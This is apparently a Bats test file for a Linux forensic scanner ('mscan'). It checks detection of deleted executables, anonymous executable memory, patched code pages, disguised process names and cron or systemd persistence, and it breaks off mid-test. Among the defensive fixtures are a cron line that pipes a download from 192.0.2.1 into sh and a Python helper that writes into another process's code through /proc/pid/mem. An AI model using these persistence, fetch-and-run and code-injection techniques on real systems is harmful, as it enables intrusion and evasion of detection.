#!/usr/bin/env bats
# shellcheck disable=SC2016 # jq and inner shells expand what stands in single quotes
# mscan on real processes and on fabricated roots. What it must see is made by testdata/scan/actor.c, which is inert.

setup_file() {
	# one of this run alone: others may run meanwhile
	cc -O1 -Wl,--build-id="0x$(od -An -N16 -tx1 /dev/urandom | tr -d ' \n')" -o "$BATS_FILE_TMPDIR/actor" \
		"$BATS_TEST_DIRNAME/../testdata/scan/actor.c" -ldl
	cc -shared -Wl,-z,notext -o "$BATS_FILE_TMPDIR/textrel.so" "$BATS_TEST_DIRNAME/../testdata/scan/textrel.c"
}

setup() {
	load common
	ACTOR=$BATS_FILE_TMPDIR/actor
	cd "$TMP" || return 1
}

teardown() {
	local p
	for p in $(jobs -p); do kill -KILL "$p" 2>/dev/null; done
	wait 2>/dev/null || :
}

# start PROGRAM ARGS...: runs it, waits until it says it is ready; its number is in $pid.
start() {
	rm -f ready
	"$@" >ready 3>&- 4>&- &
	pid=$!
	for _ in {1..100}; do
		grep -q ready ready && return 0
		kill -0 "$pid" || return 1
		sleep 0.02
	done
	return 1
}

# scan ARGS...: a case that holds, opened in x/
scan() {
	run --separate-stderr -- mscan -o c.case "$@"
	[ "$status" -eq 0 ] || { echo "# $stderr"; return 1; }
	[ -z "$output" ]
	opened
}

opened() {
	if [ -d x ]; then chmod -R u+rwX x; rm -rf x; fi
	mkdir x
	bsdtar -xf c.case -C x
	chmod -R u+rwX x
	(cd x && sha256sum -c --quiet MANIFEST)
}

sha() { sha256sum "$1" | cut -c1-64; }
about() { jq -e "${@:2}" "x/code/$1/about.json"; }
signs() { jq -r '[.signs[].name] | sort | join(" ")' "x/code/$1/about.json"; }
has_sign() { jq -e --arg s "$2" '[.signs[].name] | index($s) != null' "x/code/$1/about.json" >/dev/null; }
no_sign() { ! has_sign "$@"; }
of_kind() { jq -r --arg k "$1" 'select(.kind == $k) | .sha256' x/code/*/about.json; }

@test "a process: its program, libraries, and nothing more; a plain libc bears no sign" {
	start "$ACTOR" plain
	scan -p "$pid"
	[ -z "$stderr" ]
	about "$(sha "$ACTOR")" --argjson pid "$pid" '.kind == "file" and .sightings[0].how == "exe" and .sightings[0].pid == $pid
		and .sightings[0].cmdline[1] == "plain" and .sightings[0].comm == "actor" and (.size > 0)'
	no_sign "$(sha "$ACTOR")" memory-code
	libc=$(ldd "$ACTOR" | awk '/libc\.so/ { print $3 }')
	about "$(sha "$libc")" '.kind == "file" and .sightings[0].how == "mapped" and .sightings[0].perms == "r-xp"
		and (.sightings[0].address | test("^[0-9a-f]+$")) and .sightings[0].length > 0'
	if [ -d /var/lib/dpkg/info ]; then about "$(sha "$libc")" '.score < 4 and (.signs | map(.name) - ["fresh"]) == []'; fi
	[ -z "$(of_kind memory)$(of_kind deleted)$(of_kind memfd)" ]
	jq -e '.format == "muss-case/1" and (.id | length == 32) and .trail[0].tool == "mscan" and (.host.id | test("^[0-9a-f]{32}$"))
		and .host.arch == "x86_64" and .host.scan.processes == 1 and .host.scan.complete' x/case.json
	jq -e --arg k "$(uname -r)" '.host.kernel == $k and .host.memory > 0 and (.host.init | IN("systemd", "sysv", "openrc", "none"))' x/case.json
}

@test "a program that deleted its file is found by what runs" {
	mkdir -p .cache
	cp "$ACTOR" .cache/dbus-daemon
	start ./.cache/dbus-daemon plain
	rm .cache/dbus-daemon
	scan -p "$pid"
	s=$(sha "$ACTOR")
	about "$s" --arg p "$TMP/.cache/dbus-daemon" '.kind == "deleted" and .paths == [$p] and .sightings[0].path == $p'
	for sign in deleted hidden-folder system-name fresh; do has_sign "$s" "$sign"; done
	no_sign "$s" exe-replaced
	about "$s" --argjson submit "$(jq .submit "$ROOT/rules/criteria.json")" '.score > 3 * $submit'
}

@test "a program whose name is another file now" {
	cp "$ACTOR" a
	start ./a plain
	cp "$ACTOR" b && echo more >>b && mv b a
	scan -p "$pid"
	s=$(sha "$ACTOR")
	about "$s" '.kind == "deleted"'
	has_sign "$s" exe-replaced
	no_sign "$s" deleted
	[ ! -e "x/code/$(sha a)" ]
	# the same bytes under that name again: nothing was swapped out
	cp "$ACTOR" b && mv b a
	scan -p "$pid"
	no_sign "$s" exe-replaced
	about "$s" '.kind == "file"'
}

@test "a file whose name only ends like a deleted one" {
	cp "$ACTOR" "a (deleted)"
	start "./a (deleted)" plain
	scan -p "$pid"
	s=$(sha "$ACTOR")
	about "$s" --arg p "$TMP/a (deleted)" '.kind == "file" and .paths == [$p]'
	no_sign "$s" deleted
}

@test "hostile names pass through the case unchanged" {
	name=$'a\n\033[31m\xff\\012"'
	cp "$ACTOR" "$name"
	start "./$name" plain
	scan -p "$pid" -v
	about "$(sha "$ACTOR")" '.kind == "file" and (.paths[0] | contains("\n\u001b[31m"))'
	[[ $stderr != *$'\033'* ]]
	mscan -f "$name" | bsdtar -tf - | grep -q about.json
}

@test "a program from an anonymous memory file" {
	start "$ACTOR" memfd
	scan -p "$pid"
	s=$(sha "$ACTOR")
	about "$s" '.kind == "memfd" and .paths == ["/memfd:muss-test"]'
	has_sign "$s" memfd
	no_sign "$s" deleted
}

@test "executable memory that no file backs is dumped as it is" {
	start "$ACTOR" anonymous
	scan -p "$pid"
	s=$(of_kind memory)
	[ "$(sha "x/code/$s/body")" = "$s" ]
	[ "$(stat -c %s "x/code/$s/body")" -eq 8192 ]
	[ "$(head -c 14 "x/code/$s/body")" = "muss test code" ]
	about "$s" --argjson pid "$pid" --arg exe "$(sha "$ACTOR")" '.sightings[0].how == "memory" and .sightings[0].pid == $pid
		and .sightings[0].exe_sha256 == $exe and .sightings[0].perms == "rwxp" and .memory[0].member == "body" and .size == 8192'
	has_sign "$s" anonymous-exec
	has_sign "$s" wx-memory
	no_sign "$s" elf-in-memory
	has_sign "$(sha "$ACTOR")" memory-code
	bsdtar -tvf c.case | grep "code/$s/body" | grep -q '^----------'
}

@test "of a decrypted region only what is there is dumped, and an untouched reserve is nothing" {
	start "$ACTOR" decrypted
	scan -p "$pid"
	s=$(of_kind memory)
	[ "$(stat -c %s "x/code/$s/body")" -eq 12288 ]
	no_sign "$s" wx-memory
	kill "$pid"
	start "$ACTOR" reserve
	scan -p "$pid"
	[ -z "$(of_kind memory)" ]
}

@test "the same code in two processes is one piece with both sightings" {
	start "$ACTOR" anonymous
	one=$pid
	start "$ACTOR" anonymous
	two=$pid
	mscan -s 10 -o c.case
	opened
	s=$(of_kind memory | while read -r m; do grep -alq 'muss test code' "x/code/$m/body" && echo "$m"; done | head -1)
	about "$s" --argjson one "$one" --argjson two "$two" '[.sightings[].pid] | (index($one) != null) and (index($two) != null)'
}

@test "shared memory, the heap, and an image laid out by hand" {
	start "$ACTOR" shared
	scan -p "$pid"
	has_sign "$(of_kind memory)" shared-exec
	kill "$pid"
	start "$ACTOR" heap
	scan -p "$pid"
	has_sign "$(of_kind memory)" exec-heap
	kill "$pid"
	start "$ACTOR" image
	scan -p "$pid"
	has_sign "$(of_kind memory)" elf-in-memory
}

@test "a changed code page is found after its rights were put back, and dumped" {
	start "$ACTOR" text
	scan -p "$pid"
	s=$(sha "$ACTOR")
	has_sign "$s" text-modified
	no_sign "$s" text-forced   # it was the process itself
	about "$s" '.kind == "file" and .sightings[0].pages_modified == 1 and (.memory | length) == 1
		and (.memory[0].member == "memory/\(.memory[0].start)-\(.memory[0].end)")'
	m=x/code/$s/$(about "$s" -r '.memory[0].member')
	[ "$(stat -c %s "$m")" -eq 4096 ]
	about "$s" '[.signs[] | select(.name == "text-modified") | .reason] | .[0] | test("in 1 bytes")'
}

@test "a code page that was written to but is as it was is no sign" {
	start "$ACTOR" touched
	scan -p "$pid"
	no_sign "$(sha "$ACTOR")" text-modified
	no_sign "$(sha "$ACTOR")" text-forced
	about "$(sha "$ACTOR")" 'has("memory") | not'
}

# A byte of the program's code, by its own value, a breakpoint, or another; with "traced" by one who then stays.
write_from_without() {
	rm -f wrote
	python3 - "$pid" "$(readlink -f "$ACTOR")" "$@" <<-'END' >wrote 2>&1 3>&- 4>&- &
		import ctypes, sys, time
		pid, path, how = sys.argv[1:4]
		for line in open(f"/proc/{pid}/maps"):
		    f = line.split()
		    if f[1] == "r-xp" and f[-1] == path:
		        at = int(f[0].split("-")[0], 16)
		with open(f"/proc/{pid}/mem", "r+b", buffering=0) as m:
		    m.seek(at)
		    byte = m.read(1)
		    m.seek(at)
		    m.write({"same": byte, "breakpoint": b"\xcc", "other": bytes([byte[0] ^ 1])}[how])
		if len(sys.argv) > 4:
		    assert ctypes.CDLL(None).ptrace(0x4206, int(pid), 0, 0) == 0   # PTRACE_SEIZE
		print("written", flush=True)
		time.sleep(0 if len(sys.argv) < 5 else 600)
	END
	writer=$!
	for _ in {1..250}; do grep -qs written wrote && return 0; sleep 0.02; done
	cat wrote
	return 1
}

@test "a code page that was written to from without, though it is as it was" {
	need_root
	start "$ACTOR" plain
	scan -p "$pid"
	no_sign "$(sha "$ACTOR")" text-forced
	write_from_without same
	scan -p "$pid"
	has_sign "$(sha "$ACTOR")" text-forced
	no_sign "$(sha "$ACTOR")" text-modified
	about "$(sha "$ACTOR")" '.sightings[0] | .forced and (has("pages_modified") | not)'
	write_from_without other
	scan -p "$pid"
	has_sign "$(sha "$ACTOR")" text-forced
	has_sign "$(sha "$ACTOR")" text-modified
	kill "$pid"
}

@test "a debugger's breakpoints, while it is attached, are its own; nothing else is" {
	need_root
	start "$ACTOR" plain
	write_from_without breakpoint traced
	scan -p "$pid"
	has_sign "$(sha "$ACTOR")" traced
	no_sign "$(sha "$ACTOR")" text-forced
	kill "$writer"
	wait "$writer" || :
	scan -p "$pid"
	no_sign "$(sha "$ACTOR")" traced
	has_sign "$(sha "$ACTOR")" text-forced
	write_from_without other traced
	scan -p "$pid"
	has_sign "$(sha "$ACTOR")" text-forced
	kill "$writer" "$pid"
}

@test "relocations in code, where the file asks for them, are the lesser sign" {
	start "$ACTOR" library "$BATS_FILE_TMPDIR/textrel.so"
	scan -p "$pid"
	s=$(sha "$BATS_FILE_TMPDIR/textrel.so")
	has_sign "$s" text-relocated
	no_sign "$s" text-modified
}

@test "a deleted library" {
	cp "$BATS_FILE_TMPDIR/textrel.so" lib.so
	s=$(sha lib.so)
	start "$ACTOR" deleted-library "$TMP/lib.so"
	scan -p "$pid"
	if [ "$(id -u)" -eq 0 ]; then
		about "$s" --arg p "$TMP/lib.so" '.kind == "deleted" and .paths == [$p]'
		has_sign "$s" library-deleted
	else
		jq -e '.host.scan.complete == false and (.host.scan.unseen | length) > 0' x/case.json
	fi
}

@test "names: a kernel thread's, a system service's" {
	start "$ACTOR" named kworker/0:1
	scan -p "$pid"
	has_sign "$(sha "$ACTOR")" kernel-thread-name
	kill "$pid"
	start "$ACTOR" named dbus-daemon
	scan -p "$pid"
	has_sign "$(sha "$ACTOR")" system-name
	no_sign "$(sha "$ACTOR")" kernel-thread-name
	kill "$pid"
	start bash -c 'exec -a "[kthreadd]" "$1" plain' sh "$ACTOR"
	scan -p "$pid"
	has_sign "$(sha "$ACTOR")" kernel-thread-name
}

@test "a preloaded library, by the environment" {
	LD_PRELOAD=$BATS_FILE_TMPDIR/textrel.so SECRET=muss-secret-word start "$ACTOR" plain
	scan -p "$pid"
	has_sign "$(sha "$BATS_FILE_TMPDIR/textrel.so")" preload-environment
	no_sign "$(sha "$ACTOR")" preload-environment
	run ! grep -rq muss-secret-word x
}

@test "a raw socket" {
	need_root
	start "$ACTOR" raw
	scan -p "$pid"
	has_sign "$(sha "$ACTOR")" raw-socket
}

@test "scripts: a file, a deleted file, code on the command line" {
	printf 'echo ready\nsleep 60\n' >s.sh
	start sh s.sh
	scan -p "$pid"
	s=$(sha s.sh)
	about "$s" --arg p "$TMP/s.sh" '.kind == "script" and .paths == [$p] and .sightings[0].how == "script" and (.sightings[0].exe | endswith("sh"))'
	[ ! -e "x/code/$s/body" ]
	no_sign "$s" deleted
	rm s.sh
	scan -p "$pid"
	has_sign "$s" deleted
	[ "$(sha "x/code/$s/body")" = "$s" ]
	pkill -P "$pid" sleep || :
	text='echo ready; read -r x <fifo'
	mkfifo fifo
	start sh -c "$text"
	scan -p "$pid"
	s=$(printf %s "$text" | sha256sum | cut -c1-64)
	about "$s" '.kind == "script" and .sightings[0].inline'
	[ "$(cat "x/code/$s/body")" = "$text" ]
}

@test "a file, a tree: code only, links not followed" {
	mkdir -p t/sub
	cp "$ACTOR" t/sub/elf && chmod 644 t/sub/elf
	printf '#!/bin/sh\n' >t/script
	printf 'x\n' >t/run && chmod 755 t/run
	printf 'plain text\n' >t/text
	printf 'elsewhere\n' >away && chmod 755 away
	ln -s ../away t/link
	mkfifo t/fifo
	scan -f t
	[ -z "$stderr" ]
	[ "$(find x/code -name about.json | wc -l)" -eq 3 ]
	for f in t/sub/elf t/script t/run; do about "$(sha "$f")" '.kind == "file" and .sightings == []'; done
	scan -f t/text away
	about "$(sha t/text)" --arg p "$TMP/t/text" '.kind == "file" and .paths == [$p]'
	[ "$(find x/code -name about.json | wc -l)" -eq 2 ]
}

@test "packed-looking and stripped-bare files" {
	head -c 200000 /dev/urandom >noise
	cp "$ACTOR" bare
	# no section table: its offset and count in the header are zero
	printf '\0\0\0\0\0\0\0\0' | dd of=bare bs=1 seek=40 conv=notrunc status=none
	cp "$ACTOR" upx && printf 'UPX!' | dd of=upx bs=1 seek=232 conv=notrunc status=none
	scan -f bare upx
	has_sign "$(sha bare)" no-section-table
	has_sign "$(sha upx)" packer-section
	no_sign "$(sha upx)" no-section-table
	printf '.globl _start\n.text\n_start: ret\n.incbin "noise"\n' >n.s
	cc -nostdlib -static -o dense n.s
	# and a tenth of that among honest code
	head -c 60000 noise >some
	printf '.globl _start\n.text\n_start: ret\n.rept 150000\nmov %%rax, 8(%%rsp)\n.endr\n.incbin "some"\n' >s.s
	cc -nostdlib -static -o sparse s.s
	scan -f dense sparse
	has_sign "$(sha dense)" high-entropy
	has_sign "$(sha sparse)" high-entropy
	scan -f "$ACTOR"
	no_sign "$(sha "$ACTOR")" high-entropy
}

@test "a program that the loader was started for by hand" {
	loader=$(readelf -p .interp "$ACTOR" | awk '/lib/ { print $NF }')
	start "$loader" "$ACTOR" plain
	scan -p "$pid"
	has_sign "$(sha "$ACTOR")" loader-run
	kill "$pid"
	start "$ACTOR" plain
	scan -p "$pid"
	no_sign "$(sha "$ACTOR")" loader-run
}

@test "a program of no package that listens" {
	[ -d /var/lib/dpkg/info ] || skip "no package database"
	start "$ACTOR" listen
	scan -p "$pid"
	has_sign "$(sha "$ACTOR")" listener-unowned
	kill "$pid"
	start "$ACTOR" connected
	scan -p "$pid"
	no_sign "$(sha "$ACTOR")" listener-unowned
	# one that a package owns
	start perl -e 'use Socket; socket(S, PF_INET, SOCK_STREAM, 0); bind(S, sockaddr_in(0, INADDR_LOOPBACK)); listen(S, 1); $| = 1; print "ready\n"; sleep 60'
	scan -p "$pid"
	jq -es 'all([.signs[].name] | index("listener-unowned") == null)' x/code/*/about.json
}

@test "a program that runs with its file's capabilities, wherever it stands" {
	need_root
	[ -d /var/lib/dpkg/info ] || skip "no package database"
	cp "$ACTOR" caps
	setfattr -n security.capability -v 0x0100000200200000000000000000000000000000 caps || skip "no capabilities here"
	start ./caps plain
	scan -p "$pid"
	has_sign "$(sha caps)" capability-unowned
	kill "$pid"
	setfattr -x security.capability caps
	start ./caps plain
	scan -p "$pid"
	no_sign "$(sha caps)" capability-unowned
}

@test "data behind the image, and names made to be misread" {
	cp "$ACTOR" plain
	cp "$ACTOR" padded && head -c 64 /dev/zero >>padded
	cp "$ACTOR" loaded && head -c 200 /dev/urandom >>loaded
	strip -o bare "$ACTOR" && cp bare bareloaded && head -c 200 /dev/urandom >>bareloaded
	printf 'int x = 1;\n' | cc -c -x c -o object.o - && head -c 400 /dev/urandom >>object.o
	scan -f plain padded loaded bare bareloaded object.o
	for f in loaded bareloaded; do has_sign "$(sha $f)" appended-data; done
	for f in plain padded bare object.o; do no_sign "$(sha $f)" appended-data; done
	about "$(sha loaded)" '[.signs[] | select(.name == "appended-data") | .reason] == ["200 bytes follow the image that its headers describe"]'
	mkdir "a b" "c "
	cp bare "a b/c d" && cp loaded "c /x" && cp padded $'n\u200bx'
	scan -f "a b" "c " $'n\u200bx'
	no_sign "$(sha bare)" odd-name
	has_sign "$(sha loaded)" odd-name
	has_sign "$(sha padded)" odd-name
	# no program of a package has such data or such a name
	command -v jq gcc bash | xargs readlink -f | xargs mscan -o c.case -f
	opened
	[ -z "$(jq -r '.signs[].name' x/code/*/about.json | grep -xE 'appended-data|odd-name')" ]
}

# root FILES: a root of its own with some programs that start-up files can name
fabricate() {
	mkdir -p r/{usr/bin,opt,root/.cache,root/.config/autostart,home/u/.config/systemd/user,var/spool/cron/crontabs} \
		r/etc/{cron.d,cron.daily,profile.d,systemd/system/multi-user.target.wants,rc2.d,init.d,udev/rules.d,modules-load.d} \
		r/lib/modules/6.1.0/extra
	for n in {1..20}; do printf '#!/bin/sh\n# %s\n' "$n" >"r/opt/t$n"; chmod 755 "r/opt/t$n"; done
	for n in sh curl nice python3; do printf 'fake %s' "$n" >"r/usr/bin/$n"; chmod 755 "r/usr/bin/$n"; done
	ln -s usr/bin r/bin
	printf 'root:x:0:0::/root:/bin/sh\nu:x:1000:1000::/home/u:/bin/sh\n' >r/etc/passwd
}

# started N FILTER: /opt/tN has exactly one start-up sighting, for which the filter holds
started() {
	about "$(sha "r/opt/t$1")" "[.sightings[] | select(.how == \"startup\")] | length == 1 and (.[0] | $2)" || { echo "# t$1"; return 1; }
}

@test "crontabs: what each line starts, with its exact text" {
	fabricate
	cat >r/etc/crontab <<-'END'
	# * * * * * root /opt/t20
	PATH=/usr/bin:/opt
	*/5 * * * * root   /opt/t1 --arg >/dev/null 2>&1
	@reboot root cd /opt && ./t2
	0 0 * * * root FOO=1 nice -n 5 t3 %/opt/t20
	0 0 * * * root /bin/sh -c 'exec /opt/t4'
	0 0 * * * root python3 -W ignore /opt/t5
	0 0 * * * root sh < /opt/t6
	END
	printf '@daily $HOME/t7' >r/var/spool/cron/crontabs/u
	cp r/opt/t7 r/root/t7
	scan -R r
	started 1 '.place == "cron" and .file == "/etc/crontab" and .line == 3 and .text == "*/5 * * * * root   /opt/t1 --arg >/dev/null 2>&1" and .whole == false'
	about "$(sha r/opt/t1)" --arg s "$(sha r/etc/crontab)" '.sightings[0].file_sha256 == $s and .kind == "script" and .paths == ["/opt/t1"]'
	has_sign "$(sha r/opt/t1)" startup-cron
	started 2 '.line == 4'
	started 3 '.line == 5'
	started 4 '.line == 6'
	started 5 '.line == 7'
	started 6 '.line == 8'
	started 7 '.file == "/var/spool/cron/crontabs/u" and .line == 1 and .text == "@daily $HOME/t7"'
	[ ! -e "x/code/$(sha r/opt/t20)" ]
	[ ! -e "x/code/$(sha r/usr/bin/sh)" ]
}

@test "a start-up file is code itself where its line is, or what it names is gone" {
	fabricate
	printf '%s\n' '0 0 * * * root curl -s http://192.0.2.1/x | sh' '0 1 * * * root /opt/t1' >r/etc/cron.d/fetch
	printf '%s\n' '0 0 * * * root /opt/nothing-there' >r/etc/cron.d/gone
	printf '%s\n' '0 0 * * * root /opt/t2' >r/etc/cron.d/plain
	scan -R r
	s=$(sha r/etc/cron.d/fetch)
	about "$s" '.kind == "startup" and .paths == ["/etc/cron.d/fetch"] and (.sightings | length) == 1
		and .sightings[0].line == 1 and .sightings[0].whole == false'
	has_sign "$s" startup-fetches
	has_sign "$s" startup-inline
	has_sign "$(sha r/etc/cron.d/gone)" startup-gone
	[ ! -e "x/code/$(sha r/etc/cron.d/plain)" ]
	no_sign "$(sha r/opt/t1)" startup-fetches
}

@test "systemd: units, links to them, timers, users' units" {
	fabricate
	printf '[Service]\nExecStart=@-/opt/t1 \\\n  name -x\nExecStopPost=+/opt/t2\n' >r/etc/systemd/system/a.service
	ln -s ../a.service r/etc/systemd/system/multi-user.target.wants/a.service
	printf '[Timer]\nOnBootSec=1\nUnit=b.service\n' >r/etc/systemd/system/b.timer
	mkdir r/etc/systemd/system/c.service.d
	printf '[Service]\nExecStart=/opt/t3 "a b"\n' >r/etc/systemd/system/b.service
	printf '[Service]\nExecStart=/opt/t4\n' >r/etc/systemd/system/c.service.d/x.conf
	printf '[Service]\nExecStart=/opt/t5\n' >r/home/u/.config/systemd/user/u.service
	scan -R r
	about "$(sha r/opt/t1)" '[.sightings[] | [.file, .link, .line, .whole]] | sort == [["/etc/systemd/system/a.service", null, 2, true],
		["/etc/systemd/system/multi-user.target.wants/a.service", "../a.service", 2, true]]'
	has_sign "$(sha r/opt/t2)" startup-systemd
	about "$(sha r/opt/t3)" '[.sightings[].file] | sort == ["/etc/systemd/system/b.service", "/etc/systemd/system/b.timer"]'
	started 4 '.file == "/etc/systemd/system/c.service.d/x.conf" and .whole'
	started 5 '.place == "systemd" and .text == "ExecStart=/opt/t5"'
	has_sign "$(sha r/opt/t5)" startup-user
	no_sign "$(sha r/opt/t4)" startup-user
}

@test "profile, rc.local, init, autostart, preload, udev, modules" {
	fabricate
	printf '/opt/t1 &\nexit 0\n' >r/etc/profile.d/only.sh
	printf 'export A=b\n( /opt/t2 & ) >/dev/null\n' >r/etc/profile.d/more.sh
	printf '#!/bin/sh\nif true; then /opt/t3; fi\n' >r/etc/rc.local
	printf 'x=1\n/opt/t4\n' >r/root/.bashrc
	printf '[Desktop Entry]\nExec="/opt/t5" %%U\n' >r/root/.config/autostart/x.desktop
	printf '/opt/t6 # here\n' >r/etc/ld.so.preload
	printf 'ACTION=="add", RUN+="/opt/t7 x"\n' >r/etc/udev/rules.d/9.rules
	ln -s /opt/t8 r/etc/rc2.d/S99x
	ln -s /opt/t20 r/etc/rc2.d/K01x
	printf 'some-module\n' >r/etc/modules-load.d/m.conf
	printf 'module' >r/lib/modules/6.1.0/extra/some_module.ko
	printf '#!/bin/sh\n/opt/t9\n' >r/etc/cron.daily/d
	scan -R r
	started 1 '.place == "profile" and .line == 1 and .whole'
	started 2 '.file == "/etc/profile.d/more.sh" and .line == 2 and .text == "( /opt/t2 & ) >/dev/null" and .whole == false'
	started 3 '.place == "rc" and .line == 2 and .whole == false'
	started 4 '.file == "/root/.bashrc" and .line == 2 and .whole == false'
	has_sign "$(sha r/opt/t4)" startup-user
	started 5 '.place == "autostart" and .whole and .text == "Exec=\"/opt/t5\" %U"'
	started 6 '.place == "preload" and .text == "/opt/t6 # here" and .whole == false'
	has_sign "$(sha r/opt/t6)" preload-file
	started 7 '.place == "udev" and .whole == false'
	started 8 '.file == "/etc/rc2.d/S99x" and .link == "/opt/t8"'
	[ ! -e "x/code/$(sha r/opt/t20)" ]
	about "$(sha r/lib/modules/6.1.0/extra/some_module.ko)" '.sightings[0].place == "modules"'
	started 9 '.file == "/etc/cron.daily/d" and .whole'
	about "$(sha r/etc/cron.daily/d)" '.kind == "startup" and .sightings[0].file == "/etc/cron.daily/d"'
	no_sign "$(sha r/root/.bashrc)" hidden-folder
}

@test "a root's links lead no way out of it" {
	fabricate
	printf 'outside\n' >outside && chmod 755 outside
	ln -s "$TMP/outside" r/opt/out
	ln -s ../../../../../../../../../../../../../opt/t1 r/opt/in
	printf '%s\n' '* * * * * root /opt/out' '* * * * * root /opt/in' >r/etc/cron.d/x
	scan -R r
	[ ! -e "x/code/$(sha outside)" ]
	started 1 '.line == 2'
}

@test "start-up text made to take long does not" {
	fabricate
	yes 'a;`b`' | head -c 1000000 >r/root/.bashrc
	yes '* * * * * root /opt/t1' | head -c 1000000 >r/etc/crontab
	head -c 2000000 /dev/zero >r/etc/cron.d/zero
	SECONDS=0
	scan -R r
	[ "$SECONDS" -lt 20 ]
	jq -e .host.scan.complete x/case.json   # equal commands are looked at once: nothing is left out
	has_sign "$(sha r/root/.bashrc)" startup-user
}

# world COMMAND...: in mounts and a process table of its own, on an overlay of this machine's root; gone when it ends
world() {
	# shellcheck disable=SC2016 # expanded there
	unshare --mount --pid --fork --kill-child=KILL -- bash -c '
		set -e
		mount --make-rprivate /
		mount -t tmpfs none "$1"
		mkdir "$1/upper" "$1/work" "$1/root"
		mount -t overlay -o "lowerdir=/,upperdir=$1/upper,workdir=$1/work" overlay "$1/root"
		cp "$2" "$1/root/actor"
		mkdir -p "$1/root/out" "$1/root/tools"
		mount --bind "$3" "$1/root/out"
		mount --bind "$4" "$1/root/tools"
		mount --rbind /dev "$1/root/dev"
		cd "$1/root"
		mount -t proc proc proc
		pivot_root . . && umount -l . && cd /
		exec bash -ec "$5"' world "$1" "$ACTOR" "$TMP" "$BIN" "$2" 3>&- 4>&-
}

@test "on an overlay root: a copy that cron starts belongs to the running program that deleted itself" {
	need_root
	mkdir w
	# shellcheck disable=SC2016
	MUSS_SHARE=$ROOT/rules world "$TMP/w" '
		: >/.muss-scratch
		mkdir -p /root/.hid /var/lib/.store /etc/cron.d
		cp /actor /root/.hid/udevd; cp /actor /var/lib/.store/x; { cat /actor; echo other; } >/var/lib/.store/y; chmod 755 /var/lib/.store/y
		/root/.hid/udevd plain >/ready & pid=$!
		while ! grep -q ready /ready; do sleep 0.02; done
		rm /root/.hid/udevd
		printf "%s\n" "* * * * * root /var/lib/.store/x" "* * * * * root /root/.hid/udevd" "* * * * * root /var/lib/.store/y" >/etc/cron.d/muss-test
		/tools/mscan -o /out/c.case'
	opened
	s=$(sha "$ACTOR")
	about "$s" '.kind == "file" and ([.paths[]] | sort) == ["/root/.hid/udevd", "/var/lib/.store/x"]'
	about "$s" '[.sightings[] | select(.how == "startup") | .line] | sort == [1, 2]'
	about "$s" '[.sightings[] | select(.how == "exe")] | length == 1'
	has_sign "$s" deleted
	y=$( (cat "$ACTOR"; echo other) | sha256sum | cut -c1-64)
	about "$y" '.kind == "file" and .paths == ["/var/lib/.store/y"] and ([.sightings[] | [.how, .line]] == [["startup", 3]])'
	no_sign "$y" deleted
	jq -e '.host.scan.processes_unseen == 0 and .host.scan.processes < 8' x/case.json
	jq -es 'all([.paths[] | select(startswith("/proc/"))] == [])' x/code/*/about.json
}

@test "a process whose folder in /proc something is mounted over" {
	need_root
	start "$ACTOR" plain
	mkdir empty
	# shellcheck disable=SC2016
	unshare --mount -- sh -ec 'mount --bind "$1" "/proc/$2"; exec mscan -o c.case' sh "$TMP/empty" "$pid"
	opened
	has_sign "$(sha "$ACTOR")" hidden-process
	about "$(sha "$ACTOR")" --argjson pid "$pid" 'any(.sightings[]; .pid == $pid)'
}

@test "the whole machine: quickly, and nobody who lives briefly is taken for hidden" {
	# shellcheck disable=SC2034
	(for _ in {1..400}; do /bin/true; done) 3>&- 4>&- &
	scan
	jq -e '.host.scan.processes > 1 and .host.scan.files > 5 and .host.scan.bytes > 0 and .host.scan.seconds < 60' x/case.json
	jq -es 'all([.signs[].name] | index("hidden-process") == null)' x/code/*/about.json
	jq -es 'all((.kind | IN("file","deleted","memfd","memory","module","script","startup"))
		and ([.signs[] | select(.reason == "" or .group == "unlisted")] == [])
		and ((.sightings | length) > 0) and ((.sightings | length) <= 1000))' x/code/*/about.json
	# heaviest first
	(cd x && bsdtar -tf ../c.case | sed -n '/about.json$/p' | xargs jq .score) >scores
	sort -c -g -r scores
}

@test "without root: what may be seen, one line on what may not, exit 0" {
	if [ "$(id -u)" -eq 0 ]; then
		chmod 755 "$BATS_RUN_TMPDIR" "$BATS_FILE_TMPDIR" "$TMP" 2>/dev/null
		mkdir u && chmod 777 u
		user=(setpriv --reuid 65534 --regid 65534 --clear-groups)
		"${user[@]}" test -x "$BIN/mscan" && "${user[@]}" test -r "$ROOT/rules/criteria.json" || skip "an ordinary user cannot reach the build"
		cd u
	else
		user=()
	fi
	# shellcheck disable=SC2016
	run --separate-stderr "${user[@]}" bash -c '"$1" anonymous >ready & p=$!; while ! grep -qs ready ready; do sleep 0.02; done
		mscan -o c.case; rc=$?; kill $p; exit $rc' sh "$ACTOR"
	[ "$status" -eq 0 ]
	# shellcheck disable=SC2154 # run sets it
	[ "${#stderr_lines[@]}" -le 1 ]
	opened
	has_sign "$(sha "$ACTOR")" memory-code
	[ -n "$(of_kind memory)" ]
	if [ "${#stderr_lines[@]}" -eq 1 ]; then
		[[ $stderr == "mscan: warning: not everything was seen: "*"(not run as root)" ]]
		jq -e '.host.scan.complete == false and (.host.scan.unseen | length) > 0' x/case.json
	fi
}

@test "only code of a least score; zstd" {
	start "$ACTOR" named kworker/1
	mscan -p "$pid" -s 30 -o c.case
	opened
	[ "$(find x/code -name about.json | wc -l)" -eq 1 ]
	has_sign "$(sha "$ACTOR")" kernel-thread-name
	mscan -p "$pid" -s 1e9 | bsdtar -tf - | grep -c . | grep -qx 2
	mscan -z -p "$pid" | zstd -dc | bsdtar -tf - | grep -q MANIFEST
	mscan -b -p "$pid" -o b.case
	[ -s b.case ]
}

@test "memory of a package's runtime is told from other executable memory, by its files and its shape" {
	local python
	python=$(readlink -f /usr/bin/python3) || skip "needs python3"
	dpkg -S "$python" >/dev/null 2>&1 || skip "needs a package's python3"
	cat >maker.c <<-'END'
		#include <string.h>
		#include <sys/mman.h>
		#ifndef PAGES
		#define PAGES 1
		#endif
		#ifndef RIGHTS
		#define RIGHTS (PROT_WRITE | PROT_EXEC)
		#endif
		__attribute__((constructor)) static void make(void)
		{
			char *p = mmap(0, PAGES * 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
			if (p != MAP_FAILED)
				memset(p, 0xc3, PAGES * 4096);
			mprotect(p, PAGES * 4096, PROT_READ | RIGHTS);
		}
	END
	cc -shared -fPIC -o maker.so maker.c
	cc -shared -fPIC -DRIGHTS=PROT_EXEC -o fixed.so maker.c
	cc -shared -fPIC -DPAGES=100 -o large.so maker.c
	closure='import ctypes, time
	keep = ctypes.CFUNCTYPE(None)(lambda: None)
	print("ready", flush=True)
	time.sleep(100)'
